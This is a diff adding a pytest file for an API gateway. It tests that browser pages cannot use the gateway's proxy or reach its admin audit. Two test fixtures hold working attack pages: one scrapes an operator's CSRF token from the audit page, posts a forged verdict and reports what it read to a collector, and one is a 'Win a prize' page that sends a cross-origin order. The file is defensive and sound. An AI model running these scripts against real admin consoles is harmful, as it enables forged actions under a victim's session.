@@ -1,0 +1,287 @@
+"""Web browsers: no page can use the gateway's proxy, and none served through it can reach the audit.
+
+The first tests send what a browser sends (``Origin``, ``Sec-Fetch-Site``) from an HTTP client; the
+last ones run the attacks in Debian's headless Chromium (driven by Playwright, as in
+tests/test_audit_browser.py): a script in a page an upstream answers, with the operator signed in to the
+audit in the same browser, and a page on another origin posting an effect through the gateway.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import aiohttp
+import pytest
+import pytest_asyncio
+from aiohttp import web
+from playwright.async_api import Browser
+
+from tests.support import Upstream, effect_rows, empty_effects, gateway_server, serving, upstream_server
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+AUDIT = "/_gateway/audit"
+ORDER = {"Idempotency-Key": "k1", "Content-Type": "application/json"}
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def shop() -> AsyncIterator[Upstream]:
+    async with upstream_server() as server:
+        yield server
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def http() -> AsyncIterator[aiohttp.ClientSession]:
+    async with aiohttp.ClientSession() as session:
+        yield session
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def db(postgres_dsn: str) -> AsyncIterator[str]:
+    """The test database, each test starting from an empty audit and a shop that has seen nothing."""
+    await empty_effects(postgres_dsn)
+    yield postgres_dsn
+
+
+LISTED = "https://app.example.com"
+
+
+def upstreams(shop: Upstream, **extra: Any) -> dict[str, Any]:
+    secret = {"inject_headers": {"Authorization": "Bearer sk_live_held_by_the_gateway"}}
+    return {"shop": {"base_url": shop.url, **secret, **extra}}
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {"Origin": "http://127.0.0.1:9"},
+        {"Origin": "null"},
+        {"Sec-Fetch-Site": "cross-site"},
+        {"Sec-Fetch-Site": "same-site"},
+        {"Sec-Fetch-Site": "same-origin"},
+        {"Origin": "https://app.example.com.evil.test", "Sec-Fetch-Site": "cross-site"},
+    ],
+)
+async def test_a_pages_request_is_refused_and_nothing_is_sent_or_recorded(
+    db: str, shop: Upstream, http: aiohttp.ClientSession, headers: dict[str, str]
+) -> None:
+    """A request a page made (it carries Origin, or Sec-Fetch-Site other than none): 403, nothing sent."""
+    shop.calls.clear()
+    async with gateway_server(db, upstreams=upstreams(shop, browser_origins=[LISTED])) as gw:
+        async with http.post(f"{gw.url}/shop/orders", data=b"{}", headers={**ORDER, **headers}) as resp:
+            assert resp.status == 403
+            problem = await resp.json(content_type=None)
+        async with http.options(f"{gw.url}/shop/orders", headers=headers) as preflight:
+            assert preflight.status == 403
+            assert "Access-Control-Allow-Origin" not in preflight.headers
+    assert problem["type"].endswith("/browser-refused")
+    assert "browser_origins" in problem["detail"]
+    assert shop.calls == []
+    assert await effect_rows(db) == []
+
+
+async def test_a_listed_origin_and_a_person_typing_the_address_go_through(
+    db: str, shop: Upstream, http: aiohttp.ClientSession
+) -> None:
+    """A page on a listed origin, its preflight included, reaches the upstream; so does a typed address."""
+    shop.calls.clear()
+    listed = {"Origin": LISTED, "Sec-Fetch-Site": "cross-site"}
+    async with gateway_server(db, upstreams=upstreams(shop, browser_origins=[LISTED])) as gw:
+        async with http.options(f"{gw.url}/shop/orders", headers=listed) as preflight:
+            assert preflight.status == 201  # the upstream's own answer to it, relayed
+        async with http.post(f"{gw.url}/shop/orders", data=b"{}", headers={**ORDER, **listed}) as resp:
+            assert resp.status == 201
+        async with http.get(f"{gw.url}/shop/catalogue", headers={"Sec-Fetch-Site": "none"}) as typed:
+            assert typed.status == 201
+    assert [(c.method, c.path) for c in shop.calls] == [
+        ("OPTIONS", "/orders"),
+        ("POST", "/orders"),
+        ("GET", "/catalogue"),
+    ]
+
+
+async def test_the_agents_listener_serves_no_admin_route(
+    db: str, shop: Upstream, http: aiohttp.ClientSession
+) -> None:
+    """The audit, the effects API and the metrics answer on the admin listener only; health on both."""
+    async with gateway_server(db, upstreams=upstreams(shop)) as gw:
+        assert gw.admin_url != gw.url
+        for path in (AUDIT, AUDIT + "/1", "/_gateway/effects", "/_gateway/metrics", "/_gateway/openapi.json"):
+            async with http.get(gw.url + path) as on_proxy, http.get(gw.admin_url + path) as on_admin:
+                assert on_proxy.status == 404, path
+                assert on_admin.status in (200, 404), path
+                assert on_admin.status == 200 or path == AUDIT + "/1"
+        async with http.get(gw.url + "/_gateway/health") as ready:
+            assert (ready.status, await ready.json()) == (200, {"status": "ok"})
+
+
+# --- in a real browser ------------------------------------------------------------------------------
+
+
+def _flaky(shop: Upstream) -> None:
+    """``/orders`` answers 500: the order may have been placed; with no probe it waits for an operator."""
+
+    async def boom(request: web.Request) -> web.Response:
+        await request.read()
+        return web.Response(status=500, text="upstream broke")
+
+    shop.routes["/orders"] = boom
+
+
+async def _needs_review(http: aiohttp.ClientSession, url: str) -> None:
+    for _ in range(2):  # the 500 leaves it in doubt; the retry finds nothing to recover it by
+        async with http.post(f"{url}/shop/orders", data=b"{}", headers=ORDER) as resp:
+            await resp.read()
+
+
+async def test_a_script_in_an_upstreams_page_cannot_resolve_an_effect_with_the_operators_session(
+    db: str, shop: Upstream, http: aiohttp.ClientSession, browser: Browser, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The operator is signed in to the audit; a page an upstream answers (relayed by the proxy) runs a
+    script that tries to read an effect's page and post "did not happen": it reads nothing, the effect
+    still waits for an operator, and the agent's retry sends nothing.
+
+    Served on the audit's origin, that script read the CSRF token and the attempt, and its verdict let
+    the next retry place the order a second time.
+    """
+    shop.calls.clear()
+    monkeypatch.setenv("ADMIN", "adm-1")
+    seen: list[dict[str, Any]] = []
+    reported = asyncio.Event()
+
+    async def report(request: web.Request) -> web.Response:
+        seen.append(json.loads(await request.text()))
+        reported.set()
+        return web.Response(text="ok", headers={"Access-Control-Allow-Origin": "*"})
+
+    collector = web.Application()
+    collector.router.add_post("/report", report)
+    _flaky(shop)
+    async with (
+        serving(collector) as collected,
+        gateway_server(db, upstreams=upstreams(shop), admin={"token": "env:ADMIN"}) as gw,
+    ):
+        await _needs_review(http, gw.url)
+
+        async def page(request: web.Request) -> web.Response:
+            return web.Response(
+                text=_ATTACK.format(admin=gw.admin_url, report=collected), content_type="text/html"
+            )
+
+        shop.routes["/help"] = page
+        context = await browser.new_context()
+        try:
+            tab = await context.new_page()
+            await tab.goto(gw.admin_url + AUDIT)
+            await tab.get_by_label("Token").fill("adm-1")
+            await tab.get_by_role("button", name="Sign in").click()
+            await tab.get_by_role("heading", name="Effects").wait_for()
+            await tab.goto(gw.url + "/shop/help")  # the person follows a link to the shop's help page
+            await asyncio.wait_for(reported.wait(), 30)
+        finally:
+            await context.close()
+        async with http.post(f"{gw.url}/shop/orders", data=b"{}", headers=ORDER) as retry:
+            assert retry.status == 409
+            assert (await retry.json())["type"].endswith("/outcome-unknown")
+    (attempts,) = seen
+    assert attempts["read"] == [], "the script read a page of the audit"
+    assert [r["state"] for r in await effect_rows(db)] == ["needs_review"]
+    assert len(shop.effects("/orders")) == 1  # the first send only: nothing told the gateway to send again
+
+
+# The attack: read the effect's page (where the form's CSRF token and attempt are), then post the verdict,
+# both at the path on the page's own origin and at the admin listener's address; report what it read.
+_ATTACK = """<!doctype html><title>Help</title><p>Help</p><script>
+(async () => {{
+  const read = [];
+  const targets = ["/_gateway/audit/1", "{admin}/_gateway/audit/1"];
+  for (const url of targets) {{
+    try {{
+      const r = await fetch(url, {{credentials: "include"}});
+      const text = await r.text();
+      const csrf = /name="csrf" value="([^"]+)"/.exec(text);
+      const attempt = /name="attempt" value="([^"]+)"/.exec(text);
+      if (csrf) {{
+        read.push(url);
+        const form = new URLSearchParams({{csrf: csrf[1], attempt: attempt ? attempt[1] : "1",
+                                           happened: "no"}});
+        await fetch(url + "/resolve", {{method: "POST", body: form, credentials: "include"}});
+      }}
+    }} catch (e) {{}}
+    try {{
+      const form = new URLSearchParams({{csrf: "x", attempt: "1", happened: "no"}});
+      await fetch(url + "/resolve", {{method: "POST", body: form, credentials: "include", mode: "no-cors"}});
+    }} catch (e) {{}}
+  }}
+  await fetch("{report}/report", {{method: "POST", body: JSON.stringify({{read}})}});
+}})();
+</script>"""
+
+
+async def test_a_page_on_another_origin_cannot_send_an_effect_through_the_gateway(
+    db: str, shop: Upstream, http: aiohttp.ClientSession, browser: Browser
+) -> None:
+    """A page on another local origin posts a keyed order through the gateway, whose upstream answers CORS
+    preflights for anyone: the browser's preflight is refused, and the upstream receives nothing.
+
+    Forwarded, the upstream's preflight answer let the page's POST through, with the credentials the
+    gateway injects.
+    """
+    shop.calls.clear()
+
+    async def permissive(request: web.Request) -> web.Response:
+        # As many APIs answer: anyone may call, with any header.
+        cors = {
+            "Access-Control-Allow-Origin": "*",
+            "Access-Control-Allow-Headers": "*",
+            "Access-Control-Allow-Methods": "POST",
+        }
+        body = await request.read()
+        if request.method == "OPTIONS":
+            return web.Response(status=204, headers=cors)
+        return web.json_response({"id": len(body)}, status=201, headers=cors)
+
+    shop.routes["/orders"] = permissive
+    outcome: list[str] = []
+    done = asyncio.Event()
+    async with gateway_server(db, upstreams=upstreams(shop)) as gw:
+
+        async def page(request: web.Request) -> web.Response:
+            return web.Response(text=_CROSS_ORIGIN.format(gateway=gw.url), content_type="text/html")
+
+        async def result(request: web.Request) -> web.Response:
+            outcome.append(await request.text())
+            done.set()
+            return web.Response(text="ok")
+
+        other = web.Application()
+        other.router.add_get("/", page)
+        other.router.add_post("/result", result)
+        async with serving(other) as elsewhere:
+            context = await browser.new_context()
+            try:
+                tab = await context.new_page()
+                # localhost is another origin than the gateway's 127.0.0.1 (and another site).
+                await tab.goto(elsewhere.replace("127.0.0.1", "localhost") + "/")
+                await asyncio.wait_for(done.wait(), 30)
+            finally:
+                await context.close()
+    assert outcome == ["refused"]
+    assert shop.calls == []
+    assert await effect_rows(db) == []
+
+
+_CROSS_ORIGIN = """<!doctype html><title>Win a prize</title><script>
+(async () => {{
+  let result = "refused";
+  try {{
+    const r = await fetch("{gateway}/shop/orders", {{method: "POST",
+      headers: {{"Idempotency-Key": "k1", "Content-Type": "application/json"}}, body: "{{}}"}});
+    result = "answered " + r.status;
+  }} catch (e) {{}}
+  await fetch("/result", {{method: "POST", body: result}});
+}})();
+</script>"""
